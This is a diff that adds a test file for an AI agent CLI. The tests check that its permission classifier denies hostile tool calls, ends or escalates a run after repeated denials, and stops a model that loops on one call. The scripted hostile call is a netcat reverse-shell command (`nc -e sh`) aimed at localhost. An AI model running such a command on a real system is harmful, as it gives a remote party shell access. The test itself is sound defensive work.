@@ -1,0 +1,110 @@
+import { writeFile } from 'node:fs/promises'
+import { describe, expect, test } from 'vitest'
+import type { Line } from './lib/haft-process.js'
+import { call, headlessFixture } from './lib/headless-fixture.js'
+
+const { at, file, model, run, start } = headlessFixture()
+
+const AUTO = ['--permission-mode', 'auto']
+/** Each another one, so that nothing but the classifier minds. */
+const hostile = (port: number) => call('Bash', { command: `nc -e sh 127.0.0.1 ${port}` })
+const harmless = (line: number) => call('Read', { file_path: file('a.txt'), offset: 1, limit: line })
+
+describe('auto mode', () => {
+  test('ends the run after three denials in a row where nobody can be asked, and says why', async () => {
+    const turns = [hostile(1), hostile(2), hostile(3), hostile(4), 'unreached']
+
+    const { code, stdout } = await run(['-p', 'Go', '--output-format', 'json', ...AUTO, ...(await model(turns))])
+
+    expect(code).toBe(3)
+    const result = JSON.parse(stdout)
+    expect(result).toMatchObject({ end_reason: 'stopped_by_permissions', exit_code: 3, is_error: true, num_turns: 4 })
+    expect(result.result).toMatch(/^The classifier denied too many calls\./)
+    expect(result.permission_denials).toHaveLength(4)
+    expect(result.permission_denials[0].reason).toContain('gives a shell to another machine')
+  })
+
+  test('ends the run after twenty denials in all, however many calls pass between them', async () => {
+    const turns = Array.from({ length: 10 }, (_, round) => [
+      hostile(2 * round),
+      hostile(2 * round + 1),
+      harmless(round + 1),
+    ])
+    const args = ['--output-format', 'json', ...AUTO]
+
+    const { code, stdout } = await run([
+      '-p',
+      'Go',
+      ...args,
+      ...(await model([...turns.flat(), hostile(99), 'unreached'])),
+    ])
+
+    const result = JSON.parse(stdout)
+    expect({ code, turns: result.num_turns, denials: result.permission_denials.length }).toEqual({
+      ...{ code: 3, turns: 31, denials: 21 },
+    })
+    expect(result.result).toMatch(/^The classifier denied too many calls\./)
+  })
+
+  test('says it on standard error, too', async () => {
+    const turns = [hostile(1), hostile(2), hostile(3), hostile(4)]
+
+    const { code, stdout, stderr } = await run(['-p', 'Go', ...AUTO, ...(await model(turns))])
+
+    expect({ code, stdout }).toEqual({ code: 3, stdout: '' })
+    expect(stderr.trimEnd().split('\n').at(-1)).toMatch(/^haft: The classifier denied too many calls\./)
+  })
+
+  test('asks whoever drives after three denials in a row, and goes on with the answer', async () => {
+    const turns = [hostile(1), hostile(2), hostile(3), hostile(4), 'Done.']
+    const driven = ['-p', '--input-format', 'stream-json', '--output-format', 'stream-json']
+    const args = ['--permission-prompt-tool', 'stdio', ...AUTO, ...(await model(turns))]
+    const process = start([...driven, ...args])
+    process.send({ type: 'user', message: { role: 'user', content: 'Go' } })
+    const questions: Line[] = []
+    let line: Line = {}
+    while (line.type !== 'result') {
+      line = await process.next()
+      if (line.type !== 'control_request') continue
+      questions.push(line)
+      const response = {
+        subtype: 'success',
+        request_id: line.request_id,
+        response: { behavior: 'deny', message: 'No.' },
+      }
+      process.send({ type: 'control_response', response })
+    }
+
+    expect(line).toMatchObject({ result: 'Done.', end_reason: 'completed' })
+    expect(questions).toHaveLength(1)
+    expect(JSON.stringify(questions[0])).toContain('denied too many calls')
+    await process.finish()
+  })
+})
+
+describe('a model that goes round in circles', () => {
+  /** Makes the same call again and again; may stop when it is told. */
+  async function circling(onTold: string): Promise<string[]> {
+    const path = at('circling.mjs')
+    await writeFile(
+      path,
+      `const again = { calls: [{ name: 'Grep', input: { pattern: 'alpha' } }] }
+       const turn = ({ messages }) => (JSON.stringify(messages).includes('the same call three times') ? ${onTold} : again)
+       export const script = Array(20).fill(turn)`,
+    )
+    return ['--model', `scripted:${path}`]
+  }
+
+  test('is told, and may find another way', async () => {
+    const outcome = await run(['-p', 'Find', '--output-format', 'json', ...(await circling('"I stop here."'))])
+
+    expect(outcome.code).toBe(0)
+    expect(JSON.parse(outcome.stdout)).toMatchObject({ result: 'I stop here.', num_turns: 4 })
+  })
+
+  test('is ended where it does not, and the user is told', async () => {
+    const outcome = await run(['-p', 'Find', ...(await circling('again'))])
+
+    expect(outcome).toEqual({ code: 1, stdout: '', stderr: expect.stringMatching(/^haft: [^\n]*same call[^\n]*\n$/) })
+  })
+})
